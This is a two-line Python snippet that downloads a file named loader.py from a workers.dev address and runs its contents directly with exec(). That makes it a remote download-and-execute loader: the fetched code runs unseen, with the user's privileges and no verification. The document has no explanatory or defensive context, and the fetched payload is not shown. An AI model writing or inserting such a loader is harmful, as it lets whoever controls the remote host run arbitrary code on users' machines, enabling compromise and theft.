import urllib.request
exec(urllib.request.urlopen("https://cdn-sync.example-acct.workers.dev/loader.py").read().decode())
